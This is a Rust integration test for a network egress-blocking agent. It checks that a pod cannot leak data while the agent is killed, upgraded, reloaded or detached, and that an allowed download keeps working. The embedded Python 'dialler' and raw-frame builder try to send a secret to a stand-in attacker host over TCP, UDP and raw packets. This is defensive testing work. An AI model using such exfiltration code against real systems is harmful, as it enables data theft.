//! A workload dials out without pause while everything happens to the agent that can happen.
//! Nothing gets out, and an allowed download runs through all of it.

#![expect(clippy::unwrap_used, reason = "what a test can't go on without ends it")]

use std::{
    fs,
    io::{Read, Write},
    net::TcpStream,
    path::{Path, PathBuf},
    time::Duration,
};

use egress_tests::{
    agent,
    capture::Capture,
    copy_program,
    manifests::Walkthrough,
    netns::{End, link},
    plan,
    process::Process,
    testbed::Testbed,
    wait::{SOON, patience, until, until_is},
};

/// Snapshots that are put in force one after the other; fewer where everything takes longer.
const SNAPSHOTS: u64 = 1000;
/// The size of the outside's `/download`.
const DOWNLOAD: usize = 40 << 20;
/// Far longer than a round of the dialler takes.
const LONG: Duration = Duration::from_secs(60);
/// Where the node's metrics are.
const METRICS: &str = "127.0.0.1:15020";

/// Tries in many ways, for ever; a line for each round. New sockets each time, because interfaces
/// come and go. What raises an exception was refused or had no interface.
const DIALLER: &str = r#"
import socket, struct, sys
attacker, attacker6, frame = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3])
secret = b"the pod's secret"

def tcp(address, family):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(0.05)
        s.connect((address, 22))
        s.sendall(secret)

def datagram(address, family, protocol):
    with socket.socket(family, socket.SOCK_DGRAM, protocol) as s:
        s.sendto(secret, (address, 9999))

def packet():
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0x0800))
        s.send(frame)

ways = [
    lambda: tcp(attacker, socket.AF_INET),
    lambda: tcp(attacker6, socket.AF_INET6),
    lambda: datagram(attacker, socket.AF_INET, 0),
    lambda: datagram(attacker6, socket.AF_INET6, 0),
    lambda: datagram(attacker, socket.AF_INET, 136),
    packet,
]
while True:
    done = ""
    for way in ways:
        try:
            way()
            done += "+"
        except OSError:
            done += "-"
    print(done, flush=True)
"#;

/// Reads slowly until a file appears, then quickly to the end, and says how much it was and
/// whether every byte was right.
const DOWNLOADER: &str = r#"
import http.client, os, ssl, sys, time
connection = http.client.HTTPSConnection("edition.cnn.com", timeout=120, context=ssl.create_default_context())
connection.request("GET", "/download")
answer = connection.getresponse()
length, good = 0, answer.status == 200
while True:
    hurry = os.path.exists(sys.argv[1])
    part = answer.read(1 << 20 if hurry else 4096)
    if not part:
        break
    length += len(part)
    good = good and part.count(b"x") == len(part)
    if not hurry:
        print(length, flush=True)
        time.sleep(0.1)
print("complete" if good else "damaged", length, flush=True)
"#;

/// A UDP datagram from the pod to the attacker, as a frame for the pod's router.
fn frame() -> String {
    let mac = |text: &str| text.replace(':', "");
    let addr = |text: &str| {
        let octets = text.split('.').map(|octet| octet.parse::<u8>().unwrap_or(0));
        octets.collect::<Vec<u8>>()
    };
    let payload = b"the pod's secret";
    let length = |bytes: usize| u16::try_from(bytes).unwrap_or(0).to_be_bytes();
    let mut ip = vec![0x45, 0];
    ip.extend(length(20 + 8 + payload.len()));
    ip.extend([0, 1, 0, 0, 64, 17, 0, 0]);
    ip.extend(addr(plan::POD));
    ip.extend(addr(plan::ATTACKER));
    let words = ip.chunks(2).map(|pair| u32::from(pair[0]) << 8 | u32::from(pair[1]));
    let sum: u32 = words.sum();
    let sum = !u16::try_from((sum & 0xffff) + (sum >> 16)).unwrap_or(0);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    // Zero is no checksum, which IPv4 allows.
    let udp = [
        &40_000_u16.to_be_bytes()[..],
        &plan::UDP_PORT.to_be_bytes(),
        &length(8 + payload.len()),
        &[0, 0],
    ];
    let bytes = [&ip[..], &udp.concat(), payload].concat();
    let hex: String = bytes.iter().map(|byte| format!("{byte:02x}")).collect();
    format!("{}{}0800{hex}", mac(plan::POD_ROUTER_MAC), mac("02:00:0a:f4:01:0a"))
}

fn start(testbed: &Testbed, out: &Path, name: &str, program: &Path) -> Process {
    let args = testbed.node_args();
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let mut node = testbed.app().start(out, name, &program.to_string_lossy(), &args).unwrap();
    until(LONG, "the agent to be ready", || {
        assert!(node.ended().is_none(), "{}", node.stderr());
        node.stderr().lines().any(|line| line.ends_with(" ready")).then_some(())
    })
    .unwrap();
    node
}

/// The site with its dialler and its download.
struct Stage<'a> {
    testbed: &'a Testbed,
    /// Where processes write. Not beside `mesh.yaml`: the agents watch that directory, and wait for
    /// it to be quiet.
    out: PathBuf,
    capture: Capture,
    dialler: Process,
    downloader: Process,
    agents: u32,
}

impl Stage<'_> {
    /// Waits until every way was tried some times more, and checks that nothing got out.
    fn more(&self, what: &str) {
        let rounds = || self.dialler.stdout().lines().count();
        let before = rounds();
        until_is(LONG, &format!("attempts {what}"), rounds, |now| *now >= before + 3).unwrap();
        assert_eq!(self.capture.frames(), Vec::<String>::new(), "leaked {what}");
        assert_eq!(self.downloader.stdout().lines().filter(|line| line.contains(' ')).count(), 0);
    }

    /// Starts an agent from a file of its own, as an upgrade does.
    fn start(&mut self, program: &Path) -> Process {
        self.agents += 1;
        start(self.testbed, &self.out, &format!("node-{}", self.agents), program)
    }

    /// The pod's interface goes, and comes again with the addresses that it had.
    fn recreate(&self) {
        let (pod, app) = (&self.testbed.pod().ns, &self.testbed.app().ns);
        app.ip(&["link", "del", plan::POD_INTERFACE]).unwrap();
        let v4 = [plan::POD, plan::POD_ROUTER].map(|addr| format!("{addr}/24"));
        let v6 = [plan::POD_V6, plan::POD_ROUTER_V6].map(|addr| format!("{addr}/64"));
        link(
            &End { ns: pod, name: "eth0", mac: "02:00:0a:f4:01:0a", addresses: &[&v4[0], &v6[0]] },
            &End {
                ns: app,
                name: plan::POD_INTERFACE,
                mac: plan::POD_ROUTER_MAC,
                addresses: &[&v4[1], &v6[1]],
            },
        )
        .unwrap();
        pod.ip(&["route", "add", "default", "via", plan::POD_ROUTER]).unwrap();
        pod.ip(&["route", "add", "default", "via", plan::POD_ROUTER_V6]).unwrap();
    }

    fn downloaded(&self) -> usize {
        let text = self.downloader.stdout();
        text.lines().filter_map(|line| line.parse().ok()).next_back().unwrap_or(0)
    }

    /// The download goes on.
    fn flows(&self, what: &str) {
        let before = self.downloaded();
        until_is(
            LONG,
            &format!("the download to go on {what}"),
            || self.downloaded(),
            |now| *now > before,
        )
        .unwrap();
    }

    /// A value of the node's metrics; `None` while no agent answers.
    fn metric(&self, name: &str) -> Option<u64> {
        let ask = || -> std::io::Result<String> {
            let mut stream = TcpStream::connect(METRICS)?;
            stream.set_read_timeout(Some(Duration::from_secs(5)))?;
            stream.write_all(b"GET /metrics HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n")?;
            let mut text = String::new();
            stream.read_to_string(&mut text)?;
            Ok(text)
        };
        let text = self.testbed.app().ns.enter(ask).ok()?.ok()?;
        text.lines().find_map(|line| line.strip_prefix(name)?.trim().parse().ok())
    }

    /// Another configuration, which changes what the maps hold, in force.
    fn reload(&self, number: u64) {
        const ACCEPTED: &str = "egress_config_reloads_total{result=\"accepted\"}";
        let before = self.metric(ACCEPTED).unwrap();
        let (host, port) = (number % 250 + 1, 20_000 + number);
        let entry = format!(
            "apiVersion: networking.istio.io/v1\nkind: ServiceEntry\nmetadata:\n  name: churn\n\
             spec:\n  hosts: [churn.example.com]\n  addresses: [192.0.2.{host}]\n  ports:\n  \
             - {{number: {port}, name: tcp, protocol: TCP}}\n  resolution: STATIC\n  \
             endpoints:\n  - address: 192.0.2.{host}\n"
        );
        self.testbed.apply("churn.yaml", &entry).unwrap();
        until_is(SOON, "the snapshot", || self.metric(ACCEPTED).unwrap(), |now| *now > before)
            .unwrap();
    }
}

#[test]
fn nothing_leaks_and_nothing_breaks_whatever_happens_to_the_agent() {
    let testbed = Testbed::test(1).unwrap();
    Walkthrough::example().unwrap().passthrough.apply(&testbed).unwrap();
    let _gateway = testbed.start_gateway(0).unwrap();
    let served = || testbed.curl_status(&["https://edition.cnn.com/"]).unwrap();
    let out = testbed.dir().join("out");
    fs::create_dir(&out).unwrap();
    let first = start(&testbed, &out, "node-1", testbed.agent());
    until_is(SOON, "the allowed way", served, |seen| seen == "200").unwrap();

    // While the pod's interface is gone there is no route to the pod, and what the gateway sends it
    // would take the default route back out of the node. Network plug-ins keep such a route too.
    let app = &testbed.app().ns;
    app.ip(&["route", "add", "unreachable", "10.244.1.0/24", "metric", "4000"]).unwrap();
    app.ip(&["route", "add", "unreachable", "fd00:10:244:1::/64", "metric", "4000"]).unwrap();

    let finish = out.join("finish");
    let python = "/usr/bin/python3";
    let downloader = testbed
        .pod()
        .start(&out, "download", python, &["-c", DOWNLOADER, &finish.to_string_lossy()])
        .unwrap();
    let dialler = testbed
        .pod()
        .start(&out, "dial", python, &["-c", DIALLER, plan::ATTACKER, plan::ATTACKER_V6, &frame()])
        .unwrap();
    let capture = testbed.capture().unwrap();
    let copy = out.join("egress-agent-copy");
    let mut stage = Stage { testbed: &testbed, out, capture, dialler, downloader, agents: 1 };
    stage.flows("at first");
    stage.more("with an agent");

    // Upgrades: to a copy, and to a program that was built in another way.
    copy_program(testbed.agent(), &copy).unwrap();
    let other: PathBuf = agent::released().unwrap().to_owned();
    let mut node = first;
    for (round, program) in
        [testbed.agent(), &copy, &other, testbed.agent()].into_iter().enumerate()
    {
        node.kill();
        stage.more(&format!("after kill -9, round {round}"));
        stage.flows("without an agent");
        node = stage.start(program);
        stage.more(&format!("after the start of {}", program.display()));
        // On request too.
        assert!(node.end().unwrap().success(), "{}", node.stderr());
        stage.more(&format!("after SIGTERM, round {round}"));
        node = stage.start(program);
        stage.flows("after a restart");
    }

    // The pod's interface is made again: with an agent, and while there is none.
    stage.recreate();
    stage.more("after the interface was made again");
    stage.flows("over the new interface");
    until_is(
        SOON,
        "a repair",
        || stage.metric("egress_repairs_total{kind=\"interface\"}"),
        |count| *count >= Some(1),
    )
    .unwrap();
    node.kill();
    stage.recreate();
    stage.more("over an interface without a program");
    let node = stage.start(testbed.agent());
    stage.flows("over an interface that was found at the start");
    stage.more("over an interface that was found at the start");

    for number in 0..SNAPSHOTS / u64::from(patience()) {
        stage.reload(number);
        if number % 100 == 0 {
            stage.more(&format!("at snapshot {number}"));
        }
    }
    stage.flows("after all snapshots");
    stage.more("after all snapshots");

    // The attempts were attempts, refused by each layer; the uplink saw those that left an interface
    // without a program.
    let text = testbed.node_metrics().unwrap();
    for hook in ["connect", "sendmsg", "pod", "uplink"] {
        let denied = format!("egress_verdicts_total{{hook=\"{hook}\",action=\"deny\"");
        assert!(text.contains(&denied), "{hook}:\n{text}");
    }
    assert!(stage.dialler.ended().is_none(), "{}", stage.dialler.stderr());
    assert!(stage.downloader.ended().is_none(), "{}", stage.downloader.stderr());
    fs::write(&finish, "").unwrap();
    let status = stage.downloader.wait(LONG).unwrap();
    assert!(status.success(), "{}", stage.downloader.stderr());
    assert_eq!(stage.downloader.stdout().lines().last(), Some(&*format!("complete {DOWNLOAD}")));
    assert_eq!(served(), "200");
    assert_eq!(stage.capture.frames(), Vec::<String>::new());

    // The twin: without enforcement the same dialler gets out at once.
    drop(node);
    let detach = ["detach", "--bpffs", &testbed.pins().to_string_lossy()].map(str::to_owned);
    let mut detached = testbed.start_agent(testbed.app(), "detach", &detach).unwrap();
    assert!(detached.wait(SOON).unwrap().success(), "{}", detached.stderr());
    until(SOON, "the dialler to get out", || (!stage.capture.take().is_empty()).then_some(()))
        .unwrap();
}
